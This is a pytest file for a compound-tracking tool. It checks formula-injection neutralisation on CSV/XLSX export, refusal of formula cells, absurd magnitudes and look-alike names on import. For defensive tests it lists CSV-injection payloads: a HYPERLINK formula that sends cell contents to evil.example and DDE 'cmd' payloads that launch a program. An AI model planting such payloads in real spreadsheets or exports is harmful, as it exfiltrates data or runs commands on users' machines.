"""Formula-safe, lossless exchange: neutralised exports, refused formula and absurd cells, near-duplicate names.

Formula safety follows the OWASP "CSV Injection" guidance
(https://owasp.org/www-community/attacks/CSV_Injection): cells starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return that are not numbers are
written with a leading single quote, and refused on import.
"""

from __future__ import annotations

import datetime as dt
import filecmp
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import insert, select

from tracker.db import queries
from tracker.db.models import Compound, KineticMeasurement, Program
from tracker.db.uow import UnitOfWork
from tracker.errors import ImportErrors
from tracker.io.export import formula_like, neutralise
from tracker.io.reading import RawTable
from tracker.io.specs import SPECS
from tracker.io.validate import validate_tables
from tracker.services.importing import export_all, import_path
from tracker.units import BOUNDS

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def _messages(info) -> list[str]:
    out = []
    for e in info.value.errors:
        text = str(e)
        if e.location is not None:
            text = text.replace(e.location.file, Path(e.location.file).name, 1)
        out.append(text)
    return out


# ------------------------------------------------------------------ export
def test_neutralise_quotes_formula_triggers_but_leaves_numbers_and_plain_text():
    for text in HOSTILE + ["\tx", "\r=1"]:
        assert formula_like(text) and neutralise(text) == "'" + text
    for text in ["-1", "+2.5", "-1e-3", ".5", "AGR-001", "3.2 nM", "", None, "a=b"]:
        assert not formula_like(text) and neutralise(text) == text


def _store_hostile(engine) -> None:
    """Names written past the importer (as an older version or a direct write might have left them)."""
    now = dt.datetime.now(dt.timezone.utc)
    with UnitOfWork(engine) as uow:
        s = uow.session
        pid = s.execute(insert(Program).values(name=HOSTILE[0], target=HOSTILE[1], created_at=now).returning(Program.id)).scalar_one()
        for i, name in enumerate(HOSTILE):
            s.execute(insert(Compound).values(name=name, program_id=pid, series=HOSTILE[(i + 1) % 4], stage="hit", created_at=now))
        uow.commit()


def test_csv_and_xlsx_exports_hold_no_live_formulas(migrated_engine, tmp_path):
    _store_hostile(migrated_engine)
    book = tmp_path / "all.xlsx"
    export_all(migrated_engine, tmp_path / "out", xlsx=book)
    compounds = pd.read_csv(tmp_path / "out" / "compounds.csv", dtype=str, keep_default_na=False)
    assert compounds["compound"].tolist() == ["'" + h for h in HOSTILE]
    programs = (tmp_path / "out" / "programs.csv").read_text(encoding="utf-8").splitlines()
    assert programs[1].startswith("\"'=HYPERLINK(") and ",'+cmd|" in programs[1]
    # read back with openpyxl: every cell is a string cell, none is a formula
    wb = load_workbook(book)
    kinds = {c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None}
    assert kinds == {"s"}
    sheet = [[c.value for c in row] for row in wb["compounds"].iter_rows()]
    assert [r[0] for r in sheet[1:]] == ["'" + h for h in HOSTILE]
    # the neutralised export imports as plain text (nothing starts with a trigger any more)
    assert not any(formula_like(v) for row in sheet for v in row if isinstance(v, str))


def test_an_xlsx_export_with_formula_looking_cells_reads_back_as_text_not_formulas(migrated_engine, tmp_path):
    _store_hostile(migrated_engine)
    book = tmp_path / "all.xlsx"
    export_all(migrated_engine, tmp_path / "out", xlsx=book)
    wb = load_workbook(book, data_only=False)
    assert all(not (isinstance(c.value, str) and c.value.startswith("=")) or c.data_type == "s"
               for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_full_precision_values_round_trip_byte_identically(migrated_engine, second_migrated_engine, sample_dir, tmp_path):
    """A value with 17 significant digits and one whose stored text was rounded (6 digits) both come back exactly."""
    import_path(migrated_engine, sample_dir, actor="ana")
    kon, koff, kd = 1234567.8912345678, 1.2345678901234567e-05, 9.876543210987654e-09
    with UnitOfWork(migrated_engine) as uow:
        cid = uow.session.execute(select(Compound.id).where(Compound.name == "BKF-001")).scalar_one()
        uow.session.execute(insert(KineticMeasurement), [{
            "compound_id": cid, "method": "competition-kinetics", "kon_per_M_s": kon, "kon_text": f"{kon:.6g} /M/s",
            "koff_per_s": koff, "koff_text": f"{koff:.6g} /s", "kd_M": kd, "kd_text": f"{kd:.6g} M",
            "koff_given_as": "koff", "fit_json": "{}", "content_hash": "fit-precision", "source": "fit-7", "created_at": dt.datetime.now(dt.timezone.utc),
        }])
        uow.commit()
    export_all(migrated_engine, tmp_path / "one")
    line = [ln for ln in (tmp_path / "one" / "kinetics.csv").read_text().splitlines() if ln.startswith("BKF-001")][0]
    assert f"{kon!r} /M/s" in line and f"{koff!r} /s" in line and f"{kd!r} M" in line  # not the 6-digit texts
    import_path(second_migrated_engine, tmp_path / "one", actor="ana")
    export_all(second_migrated_engine, tmp_path / "two")
    names = sorted(p.name for p in (tmp_path / "one").iterdir() if p.name != "audit_head.json")  # the head differs per database
    assert filecmp.cmpfiles(tmp_path / "one", tmp_path / "two", names, shallow=False)[1:] == ([], [])
    got = queries.kinetics(second_migrated_engine)
    row = got[got["compound"] == "BKF-001"].iloc[0]
    assert (row["kon_per_M_s"], row["koff_per_s"], row["kd_M"]) == (kon, koff, kd)  # exactly equal, not approx


# ------------------------------------------------------------------ import refusals
POT_HEAD = "compound,assay,readout,value,incubation,format,source\n"


@pytest.fixture
def loaded(migrated_engine, sample_dir):
    import_path(migrated_engine, sample_dir, actor="ana")
    return migrated_engine


def _refused(engine, folder: Path, db_snapshot) -> list[str]:
    before = db_snapshot(engine)
    with pytest.raises(ImportErrors) as info:
        import_path(engine, folder, actor="ana")
    assert db_snapshot(engine) == before
    return _messages(info)


def test_formula_like_cells_are_refused_with_a_located_error(loaded, tmp_path, db_snapshot):
    folder = tmp_path / "bad"
    folder.mkdir()
    (folder / "compounds.csv").write_text("compound,program,series,stage,smiles\n"
                                          "NEW-1,Ashgrove,S1,hit,\n"
                                          "\"=HYPERLINK(\"\"http://evil\"\")\",Ashgrove,S1,hit,\n"
                                          "NEW-3,Ashgrove,@SUM(1),hit,\n", encoding="utf-8")
    (folder / "potency.csv").write_text(POT_HEAD + "AGR-001,a,IC50,5 nM,1 h,binding,+cmd|x\n"
                                        "AGR-001,-a,IC50,+5 nM,1 h,binding,\n", encoding="utf-8")
    msgs = _refused(loaded, folder, db_snapshot)
    for where in ("compounds.csv:3: compound: '=HYPERLINK", "compounds.csv:4: series: '@SUM(1)' starts with '@'",
                  "potency.csv:2: source: '+cmd|x' starts with '+'", "potency.csv:3: assay: '-a'", "potency.csv:3: value: '+5 nM'"):
        assert any(m.startswith(where) for m in msgs), (where, msgs)
    assert all("formula" in m for m in msgs if "starts with" in m)


def test_a_formula_cell_in_a_workbook_is_refused(loaded, tmp_path, db_snapshot):
    book = Workbook()
    ws = book.active
    ws.title = "potency"
    ws.append(["compound", "assay", "readout", "value", "incubation", "format"])
    ws.append(["AGR-001", "a", "IC50", "5 nM", "1 h", "binding"])
    ws.append(["AGR-001", "=CONCATENATE(\"a\",\"b\")", "IC50", "5 nM", "1 h", "binding"])
    book.save(tmp_path / "book.xlsx")
    msgs = _refused(loaded, tmp_path / "book.xlsx", db_snapshot)
    assert any(m.startswith("book.xlsx[potency]:3: assay: a formula cell") for m in msgs), msgs


ABSURD = {
    "concentration above 1 M": ("AGR-001,a,IC50,2 M,1 h,binding,\n", "potency.csv:2: value: '2 M' is above the plausible maximum"),
    "incubation above a year": ("AGR-001,a,IC50,5 nM,400 days,binding,\n", "potency.csv:2: incubation: '400 days' is above the plausible maximum"),
    "concentration below 1e-18 M": ("AGR-001,a,IC50,1e-6 fM,1 h,binding,\n", "potency.csv:2: value: '1e-6 fM' is below the plausible minimum"),
}


@pytest.mark.parametrize("case", list(ABSURD))
def test_absurd_magnitudes_are_refused_with_a_located_error(loaded, tmp_path, db_snapshot, case):
    line, expected = ABSURD[case]
    folder = tmp_path / "bad"
    folder.mkdir()
    (folder / "potency.csv").write_text(POT_HEAD + line, encoding="utf-8")
    msgs = _refused(loaded, folder, db_snapshot)
    assert any(m.startswith(expected) for m in msgs), msgs


_PLAUSIBLE = {"concentration": "10 nM", "time": "1 h", "rate1": "1e-3 /s", "rate2": "1e6 /M/s", "fraction": "0.5"}
_ABOVE = {"concentration": "1.5 M", "time": "9000 h", "rate1": "2e6 /s", "rate2": "2e10 /M/s", "fraction": "1.6"}
_BELOW = {"concentration": "1e-4 fM", "time": "1e-4 ms", "rate1": "1e-9 /s", "rate2": "1e-4 /M/s"}


def _row(spec, tested: str, text: str, i: int) -> dict[str, str | None]:
    row: dict[str, str | None] = {}
    for c in spec.columns:
        if c.is_quantity:
            row[c.name] = _PLAUSIBLE[c.kind]
        elif c.kind == "enum":
            row[c.name] = c.choices[0]
        elif c.kind == "date":
            row[c.name] = "2026-01-01"
        else:
            row[c.name] = f"x{i}" if c.name == spec.key else "x"
    if spec.name == "kinetics":  # koff or residence time, not both
        row["residence_time" if tested != "residence_time" else "koff"] = None
        for n in ("kd", "kon_low", "kon_high", "koff_low", "koff_high"):
            row[n] = None
    row[tested] = text
    return row


QUANTITY_COLUMNS = [(t, c.name, c.kind) for t, spec in SPECS.items() for c in spec.columns if c.is_quantity]


@pytest.mark.parametrize(("table", "column", "kind"), QUANTITY_COLUMNS, ids=[f"{t}.{c}" for t, c, _ in QUANTITY_COLUMNS])
def test_every_quantity_column_refuses_absurd_magnitudes_by_its_unit_kind(table, column, kind):
    """Bounds come from the column's kind, so columns added to the format later are covered too."""
    spec = SPECS[table]
    rows = [_row(spec, column, _PLAUSIBLE[kind], 0), _row(spec, column, _ABOVE[kind], 1)]
    if kind in _BELOW:
        rows.append(_row(spec, column, _BELOW[kind], 2))
    raw = RawTable(table, f"{table}.csv", f"{table}.csv", pd.DataFrame(rows, columns=list(spec.names), dtype=object), [2, 3, 4][: len(rows)])
    v = validate_tables([raw])
    bad = sorted((e.location.line, e.location.column) for e in v.errors)
    assert bad == [(line, column) for line in range(3, 2 + len(rows))], [str(e) for e in v.errors]
    low, high = BOUNDS[kind]
    assert low < v.tables[table].loc[0, spec.col(column).db or f"_{column}_si"] <= high


# ------------------------------------------------------------------ near-duplicate names
CPD_HEAD = "compound,program,series,stage,smiles\n"


@pytest.mark.parametrize("spelling", ["aur-100", "ＡＵＲ-１００", "\u0410UR-100", "AUR\u2010100"],
                         ids=["case", "fullwidth", "cyrillic-A", "unicode-hyphen"])
def test_near_duplicate_compound_names_within_one_file_are_refused(loaded, tmp_path, db_snapshot, spelling):
    folder = tmp_path / "bad"
    folder.mkdir()
    (folder / "compounds.csv").write_text(CPD_HEAD + "AUR-100,Ashgrove,S1,hit,\n" + f"{spelling},Ashgrove,S1,hit,\n", encoding="utf-8")
    msgs = _refused(loaded, folder, db_snapshot)
    assert msgs == [f"compounds.csv:3: compound: compound {spelling!r} differs from 'AUR-100' (" + str(folder / "compounds.csv")
                    + " line 2) only by case or look-alike characters; use one spelling"]


def test_a_new_name_that_a_stored_name_spells_differently_is_refused(loaded, tmp_path, db_snapshot):
    folder = tmp_path / "bad"
    folder.mkdir()
    (folder / "compounds.csv").write_text(CPD_HEAD + "NEW-1,Ashgrove,S1,hit,\nａｇｒ-００１,Ashgrove,S1,hit,\n", encoding="utf-8")
    (folder / "programs.csv").write_text("program\nASHGROVE\n", encoding="utf-8")
    msgs = _refused(loaded, folder, db_snapshot)
    assert "compounds.csv:3: compound: compound 'ａｇｒ-００１' differs from the stored compound 'AGR-001' only by case or look-alike characters; use the stored spelling" in msgs
    assert any(m.startswith("programs.csv:2: program: program 'ASHGROVE' differs from the stored program 'Ashgrove'") for m in msgs), msgs
